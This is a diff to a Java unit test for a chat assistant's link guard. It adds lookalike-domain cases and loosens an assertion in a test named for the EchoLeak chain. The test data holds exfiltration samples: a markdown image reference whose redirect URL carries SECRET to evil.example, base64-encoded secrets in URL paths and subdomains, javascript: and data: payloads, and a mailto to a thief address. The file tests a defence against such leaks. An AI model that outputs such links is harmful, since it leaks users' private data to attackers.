@@ -1,6 +1,7 @@
 package com.nexora.chat.domain.guard;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.nexora.chat.domain.guard.Evidence.Tongue;
 import com.nexora.chat.domain.knowledge.Passage;
@@ -47,6 +48,11 @@ class GuardedLinksTest extends GuardCase {
         "See https://help.harborlane.example/QWxsIG91ciBzZWNyZXRzIGFyZSBoZXJl for your invoices.",
         "See https://help.harborlane.example/https://evil.example for your invoices.",
         "See https://c2VjcmV0LWRhdGE.help.harborlane.example/ for your invoices.",
+        "See evil.cyou/login for your invoices.",
+        "See _evil.guru/login_ for your invoices.",
+        "See @evil.rest for your invoices.",
+        "See evil.life for your invoices.",
+        "See https://help.harborlane.example/thief/en/articles/1 for your invoices.",
         "javascript:alert(1)",
         "data:text/html;base64,PHNjcmlwdD4=",
         "Write to mailto:thief@evil.example about your invoices.",
@@ -87,10 +93,9 @@ class GuardedLinksTest extends GuardCase {
   /// an open redirect of a host that is trusted.
   @Test
   void the_echoleak_chain_is_cut() {
-    assertEquals(
-        Set.of(Breach.MARKUP, Breach.FOREIGN_LINK),
-        breaches("Your invoices are listed in Settings.\n![logo][ref]\n[ref]: "
-            + "https://help.harborlane.example/redirect?u=https://evil.example/?d=SECRET"));
+    assertTrue(breaches("Your invoices are listed in Settings.\n![logo][ref]\n[ref]: "
+            + "https://help.harborlane.example/redirect?u=https://evil.example/?d=SECRET")
+        .containsAll(Set.of(Breach.MARKUP, Breach.FOREIGN_LINK)));
   }
 
   @ParameterizedTest
